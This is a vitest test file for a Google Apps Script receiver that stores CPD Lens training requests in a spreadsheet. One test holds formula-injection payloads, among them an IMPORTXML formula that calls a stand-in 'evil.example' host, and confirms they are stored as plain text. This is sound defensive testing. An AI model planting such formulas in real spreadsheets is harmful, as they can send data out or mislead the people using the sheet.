import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { judgeAnswer, newOutboxItem, type DeliveryResponse } from '../../src/request/outbox.ts';
import { check, CpdRequest } from '../../src/index.ts';
import { sampleRequest } from '../store/request.ts';

/**
 * The Google Apps Script receiver (receivers/google-apps-script/Code.gs) run as it is, with fake
 * SpreadsheetApp, ContentService and LockService, against the delivery contract — each answer is
 * judged by the same core code the widgets use.
 */

const source = readFileSync(join(import.meta.dirname, '../../../receivers/google-apps-script/Code.gs'), 'utf8');

interface Output { text: string; mime: string }

/** A spreadsheet as Apps Script shows it: a cell typed with a leading apostrophe is stored as that text without it. */
function fakeGoogle() {
  const sheets = new Map<string, unknown[][]>();
  const locks: string[] = [];
  const sheetApi = (rows: unknown[][]) => ({
    appendRow: (row: unknown[]) => void rows.push(row.map((v) => (typeof v === 'string' && v.startsWith("'") ? v.slice(1) : v))),
    getLastRow: () => rows.length,
    getRange: (row: number, col: number, n: number, w: number) => ({ getValues: () => rows.slice(row - 1, row - 1 + n).map((r) => r.slice(col - 1, col - 1 + w)) }),
    setFrozenRows: () => undefined,
  });
  const globals = {
    SpreadsheetApp: {
      getActiveSpreadsheet: () => ({
        getSheetByName: (name: string) => (sheets.has(name) ? sheetApi(sheets.get(name)!) : null),
        insertSheet: (name: string) => (sheets.set(name, []), sheetApi(sheets.get(name)!)),
      }),
    },
    ContentService: {
      MimeType: { JSON: 'application/json' },
      createTextOutput: (text: string) => {
        const out: Output = { text, mime: 'text/plain' };
        return Object.assign(out, { setMimeType: (m: string) => ((out.mime = m), out) });
      },
    },
    LockService: { getScriptLock: () => ({ waitLock: () => void locks.push('lock'), releaseLock: () => void locks.push('release') }) },
  };
  const context = runInNewContext(`${source}\n;({ doPost, doGet, cell_ })`, globals) as {
    doPost(e: unknown): Output;
    doGet(): Output;
    cell_(v: unknown): string;
  };
  const post = (body: string) => context.doPost({ postData: { contents: body, type: 'text/plain', length: body.length, name: 'postData' } });
  return { ...context, post, rows: () => sheets.get('CPD Lens') ?? [], locks };
}

/** How the widgets would judge this answer, arriving through Apps Script's redirect. */
function judged(id: string, out: Output) {
  const response: DeliveryResponse = { status: 200, redirected: true, url: 'https://script.googleusercontent.com/macros/echo?user_content_key=k', headers: { get: (n) => (n.toLowerCase() === 'content-type' ? out.mime : null) }, text: async () => out.text };
  return judgeAnswer(newOutboxItem({ ...sampleRequest(), id }, 'https://script.google.com/macros/s/AKfy/exec', 0), response, 0);
}

describe('the Apps Script receiver', () => {
  it('stores a request as one row with the exact columns, and answers JSON echoing the id', async () => {
    const google = fakeGoogle();
    const request = { ...sampleRequest(), id: '0b6f6f2e-6c1e-4d7e-9d59-3f0c6c2f6c53' };
    const out = google.post(JSON.stringify(request));
    expect(out.mime).toBe('application/json');
    expect(JSON.parse(out.text)).toEqual({ id: request.id, status: 'received' });
    expect(await judged(request.id, out)).toMatchObject({ kind: 'sent', receiverStatus: 'received' });
    const [header, row] = google.rows();
    expect(header).toEqual(['Id', 'Kind', 'ReceivedAt', 'Requester', 'Course', 'Total', 'Document']);
    expect(row!.slice(0, 2)).toEqual([request.id, 'request']);
    expect(row![3]).toBe('Alex Morgan');
    expect(row![5]).toBe(692);
    // The Document column is the whole document: what the CLI imports.
    expect(check(CpdRequest, JSON.parse(row![6] as string)).ok).toBe(true);
    expect(google.locks).toEqual(['lock', 'release']);
  });

  it('is idempotent on id: a retry is answered "duplicate" and not stored again', async () => {
    const google = fakeGoogle();
    const body = JSON.stringify(sampleRequest());
    google.post(body);
    const again = google.post(body);
    expect(JSON.parse(again.text)).toEqual({ id: 'req-1', status: 'duplicate' });
    expect(await judged('req-1', again)).toMatchObject({ kind: 'sent', receiverStatus: 'duplicate' });
    expect(google.rows()).toHaveLength(2);
  });

  it('stores impact evaluations too, with their kind', () => {
    const google = fakeGoogle();
    const evaluation = { schemaVersion: 1, id: 'eval-1', courseTitle: 'Phonics', completedAt: '2027-06-01', objectiveIds: [], levels: { reaction: { rating: 4 } } };
    expect(JSON.parse(google.post(JSON.stringify(evaluation)).text)).toEqual({ id: 'eval-1', status: 'received' });
    expect(google.rows()[1]!.slice(0, 2)).toEqual(['eval-1', 'evaluation']);
    expect(google.rows()[1]![4]).toBe('Phonics');
  });

  it.each([
    ['wrong schemaVersion', JSON.stringify({ ...sampleRequest(), schemaVersion: 2 }), 'schemaVersion must be 1'],
    ['missing id', JSON.stringify({ ...sampleRequest(), id: undefined }), 'no valid id'],
    ['too large', JSON.stringify({ ...sampleRequest(), sharing: 'x'.repeat(60_000) }), 'too large'],
    ['not JSON', '<html>', 'not JSON'],
    ['an array', '[]', 'not a CPD Lens document'],
    ['something else', JSON.stringify({ schemaVersion: 1, id: 'x' }), 'neither a CPD request nor an impact evaluation'],
  ])('refuses %s with a JSON message the widgets show and do not retry', async (_what, body, message) => {
    const google = fakeGoogle();
    const out = google.post(body);
    expect(out.mime).toBe('application/json');
    expect(JSON.parse(out.text)).toMatchObject({ status: 'refused', message: expect.stringContaining(message) });
    expect(await judged('req-1', out)).toMatchObject({ kind: 'failed', problem: 'refused' });
    expect(google.rows().slice(1)).toEqual([]);
  });

  it('never lets a cell become a formula', () => {
    const google = fakeGoogle();
    for (const bad of ['=HYPERLINK("http://x")', ' +1', '\u00a0-2', '@SUM(A1)', '＝1+1']) expect(google.cell_(bad).startsWith("'")).toBe(true);
    expect(google.cell_('Sam Jones')).toBe('Sam Jones');
    const out = google.post(JSON.stringify({ ...sampleRequest(), requester: { name: '=IMPORTXML("http://evil.example","//a")' } }));
    expect(JSON.parse(out.text).status).toBe('received');
    // Stored as text (Apps Script drops the apostrophe from the value; the cell is not a formula).
    expect(google.rows()[1]![3]).toBe('=IMPORTXML("http://evil.example","//a")');
  });

  it('answers a GET without any stored data', () => {
    const google = fakeGoogle();
    google.post(JSON.stringify(sampleRequest()));
    expect(google.doGet().text).not.toContain('Alex');
  });
});
